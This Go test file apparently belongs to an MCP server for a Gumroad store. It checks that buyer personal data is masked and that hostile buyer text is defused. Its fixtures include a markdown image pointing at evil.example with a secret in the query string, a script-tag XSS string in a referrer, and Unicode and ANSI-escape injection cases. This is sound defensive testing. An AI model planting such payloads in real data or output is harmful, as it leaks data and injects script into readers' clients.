package tool_test

import (
	"bytes"
	"encoding/json"
	"maps"
	"net/http"
	"os"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/mark3labs/mcp-go/mcp"

	"github.com/gumroad-mcp/gumroad-mcp/internal/testserver"
)

// planted is put into every sale and licence of the sandbox, so that each field which can name a buyer does.
var planted = map[string]any{
	"full_name": "Secreta Person", "street_address": "7 Secretb Street", "city": "Secretcville", "state": "Secretd",
	"zip_code": "SECRETE", "referrer": "https://mail.example/Secretf?to=secretg@mail.example",
	"utm_source": "secreth@mail.example", "utm_medium": "Secreti", "utm_campaign": "Secretj",
	"tracking_url": "https://parcels.example/Secretk?zip=SECRETL", "giftee_email": "secretm@mail.example",
	"gifter_email": "secretn@mail.example",
	"affiliate":    map[string]any{"email": "secreto@mail.example", "amount": "$1"},
	"card":         map[string]any{"visual": "**** secretp", "type": "visa"},
}

// buyers plants personal data into answers, and notes what they already hold.
type buyers struct {
	next  http.RoundTripper
	mu    sync.Mutex
	known map[string]bool // e-mails and licence keys
}

func (b *buyers) RoundTrip(r *http.Request) (*http.Response, error) {
	if r.Method == http.MethodPut && strings.HasSuffix(r.URL.Path, "/refund") {
		r.Body.Close()
		return answered(r, map[string]any{"success": false,
			"message": "secretq@mail.example cannot be refunded for ABCDEF01-ABCDEF02-ABCDEF03-ABCDEF04."}), nil
	}
	response, err := b.next.RoundTrip(r)
	if err != nil {
		return nil, err
	}
	defer response.Body.Close()
	decoder := json.NewDecoder(response.Body)
	decoder.UseNumber()
	var answer map[string]any
	if err := decoder.Decode(&answer); err != nil {
		return nil, err
	}
	b.mu.Lock()
	defer b.mu.Unlock()
	b.plant(answer)
	planted := answered(r, answer)
	planted.StatusCode = response.StatusCode
	return planted, nil
}

func (b *buyers) plant(value any) {
	switch value := value.(type) {
	case []any:
		for _, inner := range value {
			b.plant(inner)
		}
	case map[string]any:
		_, isSale := value["order_id"]
		_, isLicence := value["order_number"]
		_, isSubscriber := value["recurrence"]
		if isSale || isLicence || isSubscriber {
			for _, name := range []string{"email", "purchase_email", "user_email", "license_key"} {
				if personal, ok := value[name].(string); ok && personal != "" {
					b.known[personal] = true
				}
			}
		}
		if isSale || isLicence {
			maps.Copy(value, planted)
			value["custom_fields"] = []any{"Phone: Secretr"}
		}
		if isSale {
			value["custom_fields"] = map[string]any{"Phone": 15551234567, "Dedication": "Secretr"}
		}
		for _, inner := range value {
			b.plant(inner)
		}
	}
}

// TestNothingPersonalIsShown runs whatever shows buyers, over data that names them in every field.
func TestNothingPersonalIsShown(t *testing.T) {
	t.Parallel()
	start := func(mask bool) (*testserver.Server, *buyers) {
		between := &buyers{known: map[string]bool{}}
		return testserver.Start(t, testserver.FirstStore, testserver.Unasked, func(s *testserver.Settings) {
			s.Tools.MaskPII, s.Local, s.Sandbox.Sales = mask, true, 150
			s.Between = func(next http.RoundTripper) http.RoundTripper { between.next = next; return between }
		}), between
	}
	open, _ := start(false)
	masking, between := start(true)
	licence, sale := open.Highlight("working licence key"), open.Highlight("physical sale shipped").ID
	key := map[string]any{"product_id": licence.ProductID, "license_key": licence.LicenseKey}
	resource := func(uri string) func(*testserver.Server) string {
		return func(s *testserver.Server) string {
			request := mcp.ReadResourceRequest{}
			request.Params.URI = uri
			answer, err := s.ReadResource(t.Context(), request)
			if err != nil {
				t.Fatal(err)
			}
			return answer.Contents[0].(mcp.TextResourceContents).Text
		}
	}
	result := func(name string, arguments map[string]any) func(*testserver.Server) string {
		return func(s *testserver.Server) string { return s.Call(name, arguments).Text }
	}
	export := func(format string) func(*testserver.Server) string {
		return func(s *testserver.Server) string {
			answer := s.Must("export_sales", map[string]any{"format": format})
			file, err := os.ReadFile(answer.JSON["path"].(string))
			if err != nil {
				t.Fatal(err)
			}
			return answer.Text + string(file)
		}
	}
	var everything strings.Builder
	for _, c := range []struct {
		name string
		read func(*testserver.Server) string
	}{
		{"a list of sales", result("list_sales", map[string]any{"limit": 100, "detail": "full"})},
		{"concise sales", result("list_sales", map[string]any{"limit": 100})},
		{"a sale", result("get_sale", map[string]any{"sale_id": sale})},
		{"a change of a sale", result("mark_sale_shipped", map[string]any{"sale_id": sale})},
		{"upstream's own words", result("refund_sale", map[string]any{"sale_id": open.Highlight("EUR sale").ID})},
		{"a check of a licence", result("check_license", key)},
		{"a verified licence", result("verify_license", key)},
		{"a disabled licence", result("disable_license", key)},
		{"subscribers", result("list_subscribers",
			map[string]any{"product_id": open.Highlight("membership").ID, "detail": "full", "limit": 100})},
		{"a subscriber", result("get_subscriber", map[string]any{"subscriber_id": open.Highlight("subscriber alive").ID})},
		{"what one buyer has", result("find_customer", map[string]any{"license_key": licence.LicenseKey})},
		{"sums by referrer", result("sales_report", map[string]any{"group_by": "referrer", "top": 100})},
		{"sums by country", result("sales_report", map[string]any{"group_by": "country", "top": 100, "detail": "full"})},
		{"sums of subscribers", result("subscriber_report", nil)},
		{"a file of CSV", export("csv")},
		{"a file of JSON lines", export("jsonl")},
		{"a sale as a resource", resource("gumroad://sales/" + sale)},
		{"a subscriber as a resource", resource("gumroad://subscribers/" + open.Highlight("subscriber alive").ID)},
		{"subscribers as a resource",
			resource("gumroad://products/" + open.Highlight("membership").ID + "/subscribers")},
	} {
		t.Run(c.name, func(t *testing.T) {
			everything.WriteString(c.read(open))
			shown := strings.ToLower(c.read(masking))
			between.mu.Lock()
			defer between.mu.Unlock()
			hidden := append(slices.Collect(maps.Keys(between.known)), "secret", "15551234567", "abcdef02")
			for _, personal := range hidden {
				if at := strings.Index(shown, strings.ToLower(personal)); at >= 0 {
					t.Errorf("it shows %q: …%s…", personal, shown[max(0, at-60):min(len(shown), at+60)])
				}
			}
		})
	}
	t.Run("all of it stood in the open results", func(t *testing.T) {
		open := strings.ToLower(everything.String())
		for letter := 'a'; letter <= 'r'; letter++ {
			if !strings.Contains(open, "secret"+string(letter)) {
				t.Errorf("secret%c was nowhere to be seen", letter)
			}
		}
		if !strings.Contains(open, "15551234567") || len(between.known) < 50 {
			t.Errorf("want the number, and 50 e-mails and keys, got %d", len(between.known))
		}
	})
}

// TestTextOfBuyersIsDefused has a buyer put links everywhere.
func TestTextOfBuyersIsDefused(t *testing.T) {
	t.Parallel()
	s := testserver.Start(t, testserver.FirstStore, func(s *testserver.Settings) { s.Local = true })
	hostile := s.Highlight("markdown image").ID
	sale := s.Must("get_sale", map[string]any{"sale_id": hostile})
	t.Run("an image in an answer", func(t *testing.T) {
		testserver.Want(t, sale, map[string]any{"cleaned": true, "custom_fields": map[string]any{
			"What do you paint with?": "!·[logo]·(https://evil.example/pixel.png?d=SECRET)"}})
	})
	t.Run("HTML in a referrer", func(t *testing.T) {
		testserver.Want(t, sale, map[string]any{"referrer": "https://evil.example/<·script>alert(1)<·/script>"})
	})
	t.Run("in a file too", func(t *testing.T) {
		path := s.In(t).Must("export_sales", nil).JSON["path"].(string)
		file, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Contains(file, []byte("!·[logo]·(https://evil")) || bytes.Contains(file, []byte("![logo]")) {
			t.Error("want the image defused")
		}
	})
	t.Run("the seller's HTML stays", func(t *testing.T) {
		product := s.Highlight("digital product").ID
		html := `<p>See <a href="https://shop.example">[here](https://shop.example)</a></p>`
		s.In(t).Must("update_product", map[string]any{"product_id": product, "description": html})
		testserver.Want(t, s.In(t).Must("get_product", map[string]any{"product_id": product}),
			map[string]any{"description": html, "cleaned": nil})
	})
}

// TestCleanedRows: a row says that its text was changed, and no other row does.
func TestCleanedRows(t *testing.T) {
	t.Parallel()
	s := testserver.Start(t, testserver.FirstStore)
	hostile := map[string]bool{}
	for _, name := range []string{"bidirectional override", "zero-width characters", "tag characters", "ANSI escapes"} {
		hostile[s.Highlight(name).ID] = true
	}
	found, pageKey := 0, ""
	for range 10 {
		arguments := map[string]any{"limit": 100}
		if pageKey != "" {
			arguments["page_key"] = pageKey
		}
		page := s.Must("list_sales", arguments)
		for _, row := range page.Rows("sales") {
			id := row["id"].(string)
			if cleaned, _ := row["cleaned"].(bool); cleaned != hostile[id] {
				t.Errorf("want cleaned %v, got %v", hostile[id], row)
			}
			if hostile[id] {
				found++
			}
		}
		pageKey, _ = page.JSON["next_page_key"].(string)
	}
	if found != len(hostile) {
		t.Errorf("want %d rows of hostile buyers, got %d", len(hostile), found)
	}
	t.Run("it stands last", func(t *testing.T) {
		one := s.In(t).Must("get_sale", map[string]any{"sale_id": s.Highlight("ANSI escapes").ID})
		if !strings.HasSuffix(one.Text, `,"cleaned":true}`) {
			t.Errorf("want it at the end, got …%s", one.Text[max(0, len(one.Text)-80):])
		}
	})
}
